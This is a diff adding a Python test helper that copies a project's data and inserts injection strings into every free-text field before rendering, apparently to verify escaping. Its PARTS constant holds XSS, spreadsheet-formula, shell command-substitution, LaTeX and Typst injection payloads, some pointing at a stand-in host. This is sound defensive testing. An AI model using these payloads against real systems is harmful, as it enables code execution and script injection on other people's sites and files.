@@ -1,0 +1,143 @@
+"""A copy of the data in which every text field holds what a stranger might type to make code run."""
+
+from __future__ import annotations
+
+import csv
+import json
+import shutil
+import zlib
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Annotated, Any, Literal, get_args, get_origin
+
+from pydantic import AfterValidator
+from pydantic.fields import FieldInfo
+
+from tests.conftest import DATA, ROOT
+from vexas_evidence import scripts, yamltext
+from vexas_evidence.coverage.rendered import noting
+from vexas_evidence.engine import Request, render
+from vexas_evidence.load import FILES
+from vexas_evidence.model import Record, Statement
+from vexas_evidence.sources.ledger import digest
+
+BEFORE = "=cmd|x "
+"""What a spreadsheet would run, were it the beginning of a cell."""
+PARTS = (
+    "</script><script>hurt=true</script>",
+    "<img src=//evil.invalid/x onerror=hurt=true>",
+    "\"'><svg/onload=hurt=true> </style><!-- ]]> &lt;",
+    '] #import "//evil.invalid/x" #eval("x") #panic() $x$ @evil //c',
+    "$(touch hurt) `touch hurt` ; touch hurt",
+    r"\input|hurt ^^M %x \\ \end",
+    "```=html ::: [a](javascript:hurt=true) ![b](//evil.invalid/b) **b** ~s~ ^s^",
+    "'''; import os #",
+)
+RIGHT_TO_LEFT = "שלום سلام"
+SHORT = frozenset(
+    {
+        *(("Outcome", "label"), ("Outcome", "group"), ("Timepoint", "label"), ("Population", "label")),
+        *(("Source", "short"), ("Finding", "label"), ("About", "short_title")),
+    }
+)
+"""Labels, which have to fit into a figure or a narrow column: each holds one part of the payload, in turn."""
+BOUND = frozenset(
+    {
+        *(("Reading", "printed"), ("Quantity", "printed"), ("Waiver", "printed"), ("Statement", "tokens")),
+        *(("Quantifier", "word"), ("Wording", "words"), ("RowMap", "row"), ("Change", "version")),
+        *(("Adjudication", key) for key in ("about", "ours", "theirs")),
+        *(("Declaration", key) for key in ("check", "found", "expected")),
+        *(("Citation", key) for key in ("year", "date", "volume", "issue", "pages", "pmid")),
+    }
+)
+"""Texts that must equal others, of a ledger or of a table: a stranger's words there are a discrepancy."""
+
+
+def free_texts(annotation: Any, value: Any, owner: str = "", key: str = "") -> Iterator[tuple[list[Any], Any]]:
+    """Yield the path of each free text of a value that its model describes."""
+    inner = list(_parts(annotation))
+    if isinstance(value, dict):
+        for model in (each for each in inner if isinstance(each, type) and issubclass(each, Record)):
+            if set(value) <= set(model.model_fields):
+                for name, below in value.items():
+                    field = model.model_fields[name]
+                    yield from (([name, *path], told) for path, told in free_texts(field, below, model.__name__, name))
+                return
+    elif isinstance(value, list):
+        for index, below in enumerate(value):
+            yield from (([index, *path], told) for path, told in free_texts(annotation, below, owner, key))
+    elif is_free(annotation):
+        yield [], (owner, key)
+
+
+def _parts(annotation: Any) -> Iterator[Any]:
+    if isinstance(annotation, FieldInfo):
+        annotation = annotation.annotation
+    yield annotation
+    for each in get_args(annotation):
+        yield from _parts(each)
+
+
+def is_free(annotation: Any) -> bool:
+    """Say whether an annotation takes any text: neither a pattern, nor one of a few words, nor a number."""
+    metadata: list[Any] = []
+    if isinstance(annotation, FieldInfo):
+        metadata, annotation = list(annotation.metadata), annotation.annotation
+    if get_origin(annotation) is Annotated:
+        annotation, *more = get_args(annotation)
+        metadata += more
+    flat = [part for each in metadata for part in (each.metadata if isinstance(each, FieldInfo) else [each])]
+    if any(getattr(each, "pattern", None) or isinstance(each, AfterValidator) for each in flat):
+        return False
+    if annotation is str:
+        return True
+    if get_origin(annotation) is Literal:
+        return False
+    return any(is_free(each) for each in get_args(annotation) if each is not type(None))
+
+
+def with_payload(text: str, more: str = "", short: bool = False) -> str:
+    """Return a text with the payload around it, or with one part of it that depends on the text."""
+    parts = [PARTS[zlib.crc32(text.encode()) % len(PARTS)]] if short else [*PARTS, more]
+    return " ".join([f"{BEFORE}{text}", *filter(None, parts)])
+
+
+def poisoned(folder: Path, more: str = "", skip: frozenset[tuple[str, str]] = BOUND) -> set[tuple[str, str]]:
+    """Copy the data to *folder* with the payload in every free text but those of *skip*; returns the fields."""
+    shutil.copytree(DATA, folder, ignore=shutil.ignore_patterns("detection.json", "schema"))
+    done = set()
+    for path in sorted(folder.rglob("*.yml")):
+        kind = "ledger" if path.parent.name == "sources" else path.stem
+        tree = yamltext.plain(yamltext.read(path, path.name))
+        for where, field in list(free_texts(FILES[kind], tree)):
+            if field in skip:
+                continue
+            node: Any = tree
+            for step in where[:-1]:
+                node = node[step]
+            node[where[-1]] = with_payload(node[where[-1]], more, field in SHORT)
+            done.add(field)
+        for each in (
+            tree.get("adjudicated", ()) if kind == "reconciliation" else ()
+        ):  # told of a place, which has it twice
+            parts = each["about"].split(", paragraph ")
+            each["about"] = ", paragraph ".join(with_payload(part, more) if parts[1:] else part for part in parts)
+        if kind == "ledger":
+            tree["digest"] = digest(Statement.model_validate(each) for each in tree["statements"])
+        path.write_text(json.dumps(tree, ensure_ascii=False, indent=1), encoding="utf-8")
+    for path in sorted(folder.rglob("*.csv")):
+        head, *rows = csv.reader(path.read_text(encoding="utf-8").splitlines())
+        columns = [head.index(name) for name in ("section", "paragraph")]
+        told = [[with_payload(each, more) if at in columns else each for at, each in enumerate(row)] for row in rows]
+        with path.open("w", encoding="utf-8", newline="") as opened:
+            csv.writer(opened, lineterminator="\n").writerows([head, *told])
+    return done
+
+
+def rendered(folder: Path, formats: tuple[str, ...], more: str = "", pages: tuple[str, ...] = ()) -> Path:
+    """Render a poisoned copy of the data; the numerals are not placed, as crowded labels overlap."""
+    poisoned(folder / "data", more)
+    wanted = Request(ROOT, folder / "data", folder / "site", pages, formats, "embedded")  # type: ignore[arg-type]
+    with noting(None):
+        render(wanted, lambda _: None, lambda site: scripts.write(site) if "html" in formats else None)
+    return folder / "site"
